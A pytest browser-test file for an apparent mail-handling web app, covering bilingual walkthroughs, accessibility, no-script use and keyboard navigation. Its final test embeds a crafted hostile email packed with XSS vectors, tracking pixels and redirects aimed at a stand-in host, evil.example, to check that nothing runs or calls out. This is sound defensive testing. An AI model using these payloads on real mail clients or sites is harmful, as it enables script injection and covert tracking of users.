"""The pages in a real browser: what support and administrators do, in both languages, on a phone, without scripts; and
what hostile mail can not do. Pictures of all pages are kept as build artefacts."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from argon2.profiles import CHEAPEST

from beleg import demo
from beleg.people import People
from beleg.plugins import Installed
from beleg.record import RecordRef
from beleg.store import Database
from beleg.web import Site
from beleg.workspace import Workspace
from browser import DESKTOP, PHONE, Surfing, browsing
from conftest import FIXTURES
from serving import Served, accounts_on, serving

Surf = Callable[..., Surfing]
ERIKA, JONAS = (name for name, _, _ in demo.PEOPLE)
QUESTION = "2-rueckfrage"
OFFER = "2026-11-04-bergmann-angebot"


@pytest.fixture(scope="module")
def chrome() -> Iterator[Any]:
    with browsing() as browser:
        yield browser


@pytest.fixture
def shop(sqlite: Database, installed: Installed) -> Iterator[Served]:
    """The lamp shop of the demo, served."""
    workspace = Workspace(sqlite, installed)
    demo.fill(workspace)
    people = People(sqlite, CHEAPEST)
    for name, address, role in demo.PEOPLE:
        people.add(name, demo.PASSWORD, address=address, role=role, by="demo")
    with serving(Site(accounts_on(workspace), people, scenarios=FIXTURES / "history")) as served:
        yield served


@pytest.fixture
def surf(chrome: Any, shop: Served) -> Iterator[Surf]:
    """Opens windows; at the end none has asked anybody but us, and no script has failed."""
    windows: list[Surfing] = []

    def open_(name: str = ERIKA, **options: Any) -> Surfing:
        windows.append(Surfing(chrome, shop.url, **options))
        windows[-1].sign_in(name, demo.PASSWORD)
        return windows[-1]

    yield open_
    for window in windows:
        window.close()
        assert window.outside == []
        assert window.faults == []


def row_of(shop: Served, mail: str) -> int:
    """The row number of a mail of the demo."""
    from beleg.message import content_identity

    raw = (demo.MAILS / f"{mail}.eml").read_bytes()
    return shop.site.workspace.find_message(content_identity(raw)).row


def standing(shop: Served, row: int) -> set[str]:
    return set(map(str, shop.site.workspace.standing(row)))


WORDS = {
    "en": {
        "linked": "Linked", "remove": "Remove …", "confirm": "Remove", "how": "How it was decided", "inbox": "Inbox",
        "later": "later replies", "link": "Link it", "ask": "Ask", "effect": "See what it would change",
    },
    "de": {
        "linked": "Zugeordnet", "remove": "Entfernen …", "confirm": "Entfernen", "how": "So wurde entschieden",
        "inbox": "Posteingang", "later": "spätere Antworten", "link": "Zuordnen", "ask": "Fragen",
        "effect": "Zeigen, was sich ändern würde",
    },
}  # fmt: skip


@pytest.mark.parametrize("lang", ["en", "de"])
def test_the_walk_of_a_newcomer(shop: Served, surf: Surf, lang: str) -> None:
    """Sign in, open three mails, see why, correct one, ask why not; a reply inherits the removal."""
    words = WORDS[lang]
    window = surf(lang=lang)
    page = window.page
    page.get_by_role("heading", name=words["inbox"]).wait_for()
    window.picture(f"inbox-{lang}")
    page.get_by_role("link", name="Rückfrage zu AB-1042", exact=True).click()
    row = row_of(shop, QUESTION)
    page.wait_for_url(f"**/messages/{row}")
    linked = page.locator("#linked")
    assert linked.get_by_role("heading", name=words["linked"]).is_visible()
    assert "AB-1042" in linked.locator("mark").all_inner_texts()
    page.get_by_role("heading", name=words["how"]).wait_for()
    assert page.get_by_role("row", name=re.compile("O-77")).is_visible(), "the decisive step is open"
    window.picture(f"message-{lang}")

    page.goto(f"/messages/{row}/why-not?record=order:O-77")
    page.get_by_text("AB-1042").first.wait_for()
    window.picture(f"why-not-{lang}")

    page.goto(f"/messages/{row}")
    linked.get_by_role("link", name=words["remove"]).first.click()
    dialog = page.get_by_role("dialog")
    assert words["later"] in dialog.inner_text()
    window.picture(f"remove-{lang}")
    dialog.get_by_role("button", name=words["confirm"], exact=True).click()
    page.wait_for_url(re.compile(rf"/messages/{row}\?.*"))
    assert standing(shop, row) == set(), "what was derived went along"
    window.picture(f"removed-{lang}")

    reply = (
        b"From: anna@kunde.example\r\nTo: shop@lampenladen.example\r\nSubject: Nochmal\r\n"
        b"Date: Fri, 06 Nov 2026 10:00:00 +0100\r\nMessage-ID: <nochmal@kunde.example>\r\n"
        b"In-Reply-To: <rueckfrage@kunde.example>\r\n\r\nUnd AB-1042?\r\n"
    )
    asked = shop.site.workspace.find_message(str(row))
    shop.site.workspace.import_mail(
        [(reply.replace(b"rueckfrage@kunde.example", (asked.message_id or "").encode()), "")], decide=False
    )
    later = shop.site.workspace.find_message("nochmal@kunde.example").row
    page.goto(f"/messages/{later}")
    assert standing(shop, later) == set(), "the removal is inherited"
    assert ERIKA in page.locator("main").inner_text()
    window.picture(f"inherited-{lang}")


def test_an_ambiguous_result_is_one_click_away_from_its_candidates(shop: Served, surf: Surf) -> None:
    from beleg.outcome import open_steps

    workspace = shop.site.workspace
    row = next(iter(workspace.inbox("ambiguous").rows)).message.row
    trace, _ = workspace.open(row)
    wanted = open_steps(trace, (), workspace.step_types)[0].candidates[0]
    window = surf()
    window.page.goto(f"/messages/{row}")
    window.picture("ambiguous")
    id_ = RecordRef.parse(wanted).id
    choice = window.page.locator("#linked li", has_text=re.compile(rf"\b{re.escape(id_)}\b")).first
    choice.get_by_role("button", name=WORDS["en"]["link"]).click()
    window.page.wait_for_url(re.compile(rf"/messages/{row}\?.*"))
    assert wanted in standing(shop, row)


@pytest.mark.parametrize("lang", ["en", "de"])
def test_the_effect_of_a_blacklist_entry_is_seen_before_it_is_saved(shop: Served, surf: Surf, lang: str) -> None:
    words = WORDS[lang]
    window = surf(JONAS, lang=lang)
    page = window.page
    page.goto("/ignored")
    window.picture(f"blacklist-{lang}")
    page.fill("#add", "anna@kunde.example")
    page.get_by_role("button", name=words["effect"]).click()
    page.get_by_text("Rückfrage zu AB-1042").first.wait_for()
    window.picture(f"blacklist-effect-{lang}")
    assert "anna@kunde.example" not in shop.site.workspace.ignored().blacklist, "nothing is saved before"
    page.locator("main form button.primary").first.click()
    page.get_by_role("status").wait_for()
    window.picture(f"blacklist-saved-{lang}")
    page.goto("/ignored")
    assert page.get_by_role("row", name=re.compile("anna@kunde.example")).is_visible()
    assert "anna@kunde.example" in shop.site.workspace.ignored().blacklist


PLACES = ("/messages", "/messages/2", "/records?q=kunde", "/records/order/O-81", "/records/contact/K-5", "/ignored",
          "/rules", "/users", "/profile")  # fmt: skip


@pytest.mark.parametrize(
    ("size", "name"),
    [
        (PHONE, "phone"),
        pytest.param({"width": 640, "height": 450}, "zoomed", marks=pytest.mark.slow),
        pytest.param(DESKTOP, "", marks=pytest.mark.slow),
    ],
)
@pytest.mark.parametrize("lang", [pytest.param("en", marks=pytest.mark.slow), "de"])
def test_every_page_fits_and_is_accessible(surf: Surf, lang: str, size: dict[str, int], name: str) -> None:
    """At 200 % a desktop window has half its width; nothing is wider than the window, and axe finds no fault."""
    from axe_playwright_python.sync_playwright import Axe

    window = surf(JONAS, lang=lang, size=size)
    faults: list[str] = []
    for place in PLACES:
        window.page.goto(place)
        window.page.wait_for_load_state("networkidle")
        wide = window.page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert wide <= 0, f"{place} is {wide} pixels wider than the window"
        kind = re.sub(r"\W+", "-", place.partition("?")[0].strip("/"))
        window.picture("-".join(filter(None, ("page", kind, name, lang))))
        if name != "zoomed":
            faults += [
                f"{place}: {fault['id']}: {node['html'][:120]}"
                for fault in Axe().run(window.page).response["violations"]
                for node in fault["nodes"]
            ]
    assert faults == []


def test_all_can_be_done_without_scripts(shop: Served, surf: Surf) -> None:
    window = surf(java_script_enabled=False)
    page = window.page
    row = row_of(shop, QUESTION)
    page.goto(f"/messages/{row}")
    page.locator("#linked").get_by_role("link", name=WORDS["en"]["remove"]).first.click()
    assert WORDS["en"]["later"] in page.locator("main").inner_text()
    page.locator("main").get_by_role("button", name=WORDS["en"]["confirm"], exact=True).click()
    assert standing(shop, row) == set()


def test_the_inbox_by_keyboard(surf: Surf) -> None:
    window = surf()
    page = window.page
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    first = page.locator("[data-item] a").first.inner_text()
    page.keyboard.press("Enter")
    page.wait_for_url("**/messages/*")
    assert page.locator("h1").inner_text() == first
    page.go_back()
    page.keyboard.press("/")
    page.keyboard.type("stehlampe")
    page.keyboard.press("Enter")
    page.wait_for_url("**q=stehlampe**")
    assert "Rückfrage zu AB-1042" in page.locator("main").inner_text()


HOSTILE = """\
From: "<script>boom()</script> \u202egro.live" <x@spam.example>
To: shop@lampenladen.example
Subject: </title><script>boom()</script><img src=http://evil.example/s onerror=boom()>\u202e'"
Message-ID: <evil@spam.example>
Date: Thu, 05 Nov 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/r">
<link rel="stylesheet" href="http://evil.example/l.css"><link rel="dns-prefetch" href="//evil.example">
<style>@import "http://evil.example/i.css"; body{background:url(http://evil.example/bg)}</style>
<script>boom()</script><script src="http://evil.example/s.js"></script>
<img src="http://evil.example/pixel.gif" width=1 height=1><img srcset="http://evil.example/2x.gif 2x">
<p style="background-image:url('http://evil.example/p.gif');position:fixed;top:0" onclick="boom()">Hallo</p>
<table background="http://evil.example/t.gif"><tr><td>x</td></tr></table>
<svg onload="boom()"><image href="http://evil.example/svg.png"/></svg>
<form action="http://evil.example/f"><input name=a autofocus onfocus="boom()"><button>OK</button></form>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<video src="http://evil.example/v" poster="http://evil.example/vp"></video><audio src="http://evil.example/a"></audio>
<a href="javascript:boom()">klick</a> <a href="http://evil.example/link" ping="http://evil.example/ping">link</a>
<math><mtext><img src=x onerror=boom()></mtext></math><!--><img src=http://evil.example/c onerror=boom()>-->
"""


def test_hostile_mail_reaches_nobody_and_runs_nothing(shop: Served, surf: Surf) -> None:
    workspace = shop.site.workspace
    deep = HOSTILE.replace("evil@spam", "deep@spam") + "<div>" * 50_000
    workspace.import_mail([(each.replace("\n", "\r\n").encode(), "") for each in (HOSTILE, deep)])
    window = surf()
    page = window.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script("window.booms = 0; window.boom = () => { window.booms += 1 }")
    for name in ("evil", "deep"):
        row = workspace.find_message(f"{name}@spam.example").row
        alone = [f"/messages/{row}/html"] if name == "evil" else []  # the deep one is shown as text only
        for place in ("/messages", f"/messages/{row}", f"/messages/{row}?html=1", *alone):
            page.goto(place)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.booms") == 0, place
            for frame in page.frames[1:]:
                assert "evil" not in (frame.url or "")
        window.picture(f"hostile-{name}")
    assert dialogs == []
    assert window.outside == []
